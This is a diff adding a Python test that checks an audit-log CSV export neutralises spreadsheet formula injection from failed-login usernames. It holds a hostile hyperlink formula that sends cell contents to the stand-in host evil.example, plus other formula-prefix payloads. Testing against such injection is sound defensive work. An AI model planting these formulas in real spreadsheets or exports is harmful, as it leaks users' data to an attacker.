@@ -411,3 +411,36 @@ async def test_logs_sealed_before_the_upgrade_stay_verifiable(
         assert (await rt.audit.verify())[1] == chain.Break(2, 1, "unlinked")
     finally:
         await rt.stop()
+
+
+async def test_csv_export_neutralises_formulas(tmp_path: Path, sqlite_url: str) -> None:
+    """CSV injection: a failed login as a formula must not export a cell a spreadsheet runs."""
+    from evota.csvcells import safe_cell
+
+    evil = '=hyperlink("http://evil.example/?"&a1,"click")'  # usernames are lower-cased
+    rt = await start_runtime(tmp_path, sqlite_url)
+    try:
+        async with api_client(rt, None) as anon:
+            for name in (evil, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"):
+                res = await anon.post(
+                    "/api/v1/auth/login", json={"username": name, "password": "x" * 12}
+                )
+                assert res.status_code == 401, res.text
+        await rt.audit.drain()
+        async with api_client(rt) as admin:
+            text = (await admin.get("/api/v1/audit/export", params={"format": "csv"})).text
+            jsonl = (await admin.get("/api/v1/audit/export", params={"format": "jsonl"})).text
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert "'" + evil in cells
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert evil in [json.loads(line)["actor"] for line in jsonl.splitlines()]  # JSONL: as is
+    finally:
+        await rt.stop()
+    assert [safe_cell(v) for v in ("ok", "=1", 5, -5, None, "a=b")] == [
+        "ok",
+        "'=1",
+        5,
+        -5,
+        None,
+        "a=b",
+    ]
